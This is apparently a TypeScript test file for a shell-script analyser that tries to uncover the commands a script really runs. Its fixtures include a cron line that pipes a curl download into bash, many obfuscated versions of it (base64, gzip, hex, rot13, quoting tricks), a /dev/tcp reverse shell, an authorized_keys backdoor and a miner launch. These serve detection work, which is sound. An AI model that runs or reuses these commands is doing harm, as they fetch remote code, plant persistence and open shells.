import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { ShellCommand } from '../shell-command.ts';
import { readScript, type ScriptContext } from './read-script.ts';

const run = (text: string, context: Partial<ScriptContext> = {}) =>
  readScript(text, { place: { field: 'config.cmd', decoded: [] }, ...context });
const lines = (commands: readonly ShellCommand[]): string[] =>
  commands.map(({ words, certain }) => `${certain ? '' : '? '}${words.map(({ text }) => text).join(' ')}`.trim());
const seen = (text: string, context: Partial<ScriptContext> = {}): string[] => lines(run(text, context).commands);
const last = (text: string, context: Partial<ScriptContext> = {}): string | undefined => seen(text, context).at(-1);
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const files = (contents: Record<string, string>) => ({
  readFile: (path: string) => new Map(Object.entries(contents)).get(path),
});

const FETCH = 'curl -s http://192.0.2.1:8220/logo3.jpg';

test('a line for the crontab of the host', () => {
  const job = `*/1 * * * * ${FETCH} | bash -s`;
  const wanted = `echo ${job}`;
  const variants: [string, Partial<ScriptContext>][] = [
    [`echo "${job}" >> /mnt/etc/crontab`, {}],
    [`sh -c 'echo "${job}" >> /mnt/etc/crontab'`, {}],
    [`a=cu; b=rl; h=192.0.2.1; echo "*/1 * * * * $a$b -s http://$h:8220/logo3.jpg | bash -s" >> /mnt/etc/crontab`, {}],
    [
      `echo "$JOB" >> $WHERE/crontab`,
      {
        environment: new Map([
          ['JOB', job],
          ['WHERE', '/mnt/etc'],
        ]),
      },
    ],
    [`eval "$RUN"`, { environment: new Map([['RUN', `echo "${job}" >> /mnt/etc/crontab`]]) }],
    [`echo ${base64(`echo "${job}" >> /mnt/etc/crontab`)} | base64 -d | sh`, {}],
  ];
  for (const [script, context] of variants) {
    const { commands } = run(script, context);
    const command = commands.at(-1);
    assert.equal(lines(commands).at(-1), wanted, script);
    assert.deepEqual(
      command?.redirections.map(({ kind, target }) => [kind, target.text]),
      [['append', '/mnt/etc/crontab']],
    );
  }
});

test('scripts that were encoded, several times over', () => {
  const twice = base64(`echo ${base64(FETCH)} | base64 -d | bash`);
  const { commands } = run(`sh -c "echo ${twice} | base64 --decode | sh"`);
  assert.equal(lines(commands).at(-1), FETCH);
  assert.deepEqual(commands.at(-1)?.place.decoded, ['base64', 'base64']);
  const zipped = gzipSync(FETCH).toString('base64');
  for (const script of [
    `echo ${zipped} | base64 -d | gunzip | sh`,
    `base64 -d <<< ${zipped} | gzip -dc | bash`,
    `eval "$(printf %s ${zipped} | openssl base64 -d -A | zcat)"`,
    `echo ${zipped} | base64 -d > /tmp/a.gz; zcat /tmp/a.gz | sh`,
  ]) {
    const found = run(script).commands.at(-1);
    assert.deepEqual(found && lines([found]), [FETCH], script);
    assert.deepEqual(found?.place.decoded, ['base64', 'gzip'], script);
  }
});

test('other ways to hide a command', () => {
  const hex = Buffer.from(FETCH).toString('hex');
  for (const script of [
    `echo ${hex} | xxd -r -p | sh`,
    `$(printf '\\143\\165\\162\\154') -s http://192.0.2.1:8220/logo3.jpg`,
    `$'\\x63url' -s http://192.0.2.1:8220/logo3.jpg`,
    `{curl,-s,http://192.0.2.1:8220/logo3.jpg}`,
    `c''u"r"\\l -s http://192.0.2.1:8220/logo3.jpg`,
    `x=lruc; $(echo $x | rev) -s http://192.0.2.1:8220/logo3.jpg`,
    `cu$@rl -s http://192.0.2.1:8220/logo3.jpg`,
    `s='phey -f uggc://192.0.2.1:8220/ybtb3.wct'; eval "$(echo "$s" | tr 'a-z' 'n-za-m')"`,
    `a=(curl -s http://192.0.2.1:8220/logo3.jpg); "\${a[@]}"`,
    `n=C; n=\${n,,}; \${n}url -s http://192.0.2.1:8220/logo3.jpg`,
    `t=xcurlx; t=\${t#x}; t=\${t%x}; $t -s http://192.0.2.1:8220/logo3.jpg`,
    `f() { "$@"; }; f curl -s http://192.0.2.1:8220/logo3.jpg`,
    `cat > /tmp/x <<'E'\n${FETCH}\nE\nchmod +x /tmp/x && :; /tmp/x`,
    `bash <<E\n${FETCH}\nE`,
    `. <(echo ${FETCH})`,
    `echo ${FETCH} | sed 's/http/http/' | sh`,
    `echo curlQ-sQhttp://192.0.2.1:8220/logo3.jpg | tr Q ' ' | sh`,
    `for w in cu; do for v in rl; do $w$v -s http://192.0.2.1:8220/logo3.jpg; done; done`,
    `\`echo curl\` -s http://192.0.2.1:8220/logo3.jpg`,
  ]) {
    assert.ok(seen(script).includes(FETCH), `${script}\n${seen(script).join('\n')}`);
  }
});

test('commands that start others', () => {
  for (const launcher of 'nohup|setsid|env A=b|timeout -s KILL 5|sudo -u nobody|exec|nice -n 19|gosu app|tini --|busybox|xargs -n1'.split(
    '|',
  )) {
    assert.equal(
      last(`${launcher} ./x -c config.json`, {}),
      launcher.startsWith('xargs') ? './x -c config.json \ufffc' : './x -c config.json',
      launcher,
    );
  }
  assert.equal(last(`su - app -c 'cd /; ./x'`), './x');
  assert.equal(last('echo http://a.example | xargs wget -q'), 'wget -q http://a.example');
  assert.deepEqual(
    run('nohup ./x &').commands.map(({ background }) => background),
    [true, true],
  );
});

test('reverse shells and keys', () => {
  const [shell] = run('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1').commands;
  assert.deepEqual(
    shell?.redirections.map(({ descriptor, kind, target }) => [descriptor, kind, target.text]),
    [
      [1, 'write', '/dev/tcp/192.0.2.1/4444'],
      [2, 'write', '/dev/tcp/192.0.2.1/4444'],
      [0, 'duplicate', '1'],
    ],
  );
  const key = 'ssh-rsa AAAAB3 x@y';
  const { commands } = run(`d=/mnt/root/.ssh; mkdir -p $d; echo "${key}" >> $d/authorized_keys`);
  assert.equal(commands.at(-1)?.redirections[0]?.target.text, '/mnt/root/.ssh/authorized_keys');
  assert.equal(lines(commands).at(-1), `echo ${key}`);
});

test('what is certain, and what is not', () => {
  assert.deepEqual(seen('a; if b; then c; else d; fi; e && f'), ['a', 'b', '? c', '? d', 'e', '? f']);
  assert.deepEqual(seen('true && a; false && b; if [ -z "" ]; then c; else d; fi'), [
    'true',
    'a',
    'false',
    '? b',
    '[ -z  ]',
    'c',
    '? d',
  ]);
  assert.deepEqual(seen('f() { a; }; g() { b; }; g'), ['g', 'b', '? a']);
  assert.deepEqual(seen('while true; do a; done; exit; b'), ['true', 'a', 'exit', '? b']);
  assert.deepEqual(seen('curl $URL/x; wget $\u007bMIRROR:-http://a.example}'), [
    'curl \ufffc/x',
    'wget http://a.example',
  ]);
});

test('entry points of well-known images', () => {
  const redis = `#!/bin/sh
set -e
if [ "\${1#-}" != "$1" ] || [ "\${1%.conf}" != "$1" ]; then
	set -- redis-server "$@"
fi
if [ "$1" = 'redis-server' -a "$(id -u)" = '0' ]; then
	find . \\! -user redis -exec chown redis '{}' +
	exec gosu redis "$0" "$@"
fi
um="$(umask)"
exec "$@"
`;
  const context = {
    arguments: ['redis-server'],
    user: 'root',
    place: { path: 'usr/local/bin/docker-entrypoint.sh', decoded: [] },
  };
  const started = seen(redis, context);
  assert.ok(started.includes('/usr/local/bin/docker-entrypoint.sh redis-server'));
  assert.equal(last(redis, context), '? redis-server');
  assert.ok(seen(redis, { ...context, arguments: ['--port', '1'], user: 'redis' }).includes('redis-server --port 1'));

  const postgres = `#!/usr/bin/env bash
set -Eeo pipefail
docker_setup_env() { declare -g POSTGRES_HOST_AUTH_METHOD; : "\${PGDATA:=/var/lib/postgresql/data}"; }
_main() {
	if [ "\${1:0:1}" = '-' ]; then
		set -- postgres "$@"
	fi
	if [ "$1" = 'postgres' ] && ! false; then
		docker_setup_env
		if [ "$(id -u)" = '0' ]; then
			exec gosu postgres "$BASH_SOURCE" "$@"
		fi
		initdb -D "$PGDATA"
	fi
	exec "$@"
}
if ! [ "\${FUNCNAME:-x}" = y ]; then
	_main "$@"
fi
`;
  const found = seen(postgres, { arguments: ['-c', 'fsync=off'], user: 'postgres' });
  assert.ok(
    found.includes('? initdb -D /var/lib/postgresql/data') || found.includes('initdb -D /var/lib/postgresql/data'),
  );
  assert.ok(found.includes('postgres -c fsync=off'), found.join('\n'));

  const nginx = `#!/bin/sh
if [ "$1" = "nginx" ] || [ "$1" = "nginx-debug" ]; then
  find "/docker-entrypoint.d/" -follow -type f -print | sort -V | while read -r f; do
    case "$f" in
      *.envsh) . "$f" ;;
      *.sh) if [ -x "$f" ]; then "$f"; fi ;;
    esac
  done
fi
exec "$@"
`;
  assert.deepEqual(seen(nginx, { arguments: ['nginx', '-g', 'daemon off;'] }).slice(-2), [
    'exec nginx -g daemon off;',
    'nginx -g daemon off;',
  ]);

  const wordpress = `#!/usr/bin/env bash
if [[ "$1" == apache2* ]] || [ "$1" = 'php-fpm' ]; then
	uid="$(id -u)"
	if [ ! -e index.php ]; then tar --create --file - . | tar --extract --file -; fi
fi
exec "$@"
`;
  assert.equal(last(wordpress, { arguments: ['apache2-foreground'] }), 'apache2-foreground');
});

test('scripts that are sourced or started', () => {
  const context = files({
    'opt/run.sh': '#!/bin/sh\nNAME=x\n. ./lib.sh\nstart "$1"\n',
    'opt/lib.sh': 'start() {\n  ./miner -n $1 $NAME\n}\n. /opt/lib.sh\n',
    'usr/bin/tool': '#!/usr/bin/python3\nimport os\n',
  });
  const { commands } = run('cd /opt; ./run.sh two; tool', context);
  assert.deepEqual(lines(commands), [
    'cd /opt',
    './run.sh two',
    '',
    '. ./lib.sh',
    '. /opt/lib.sh',
    'start two',
    './miner -n two x',
    'tool',
  ]);
  assert.deepEqual(commands.find(({ words }) => words[0]?.text === './miner')?.place, {
    path: 'opt/lib.sh',
    line: 2,
    decoded: [],
  });
});
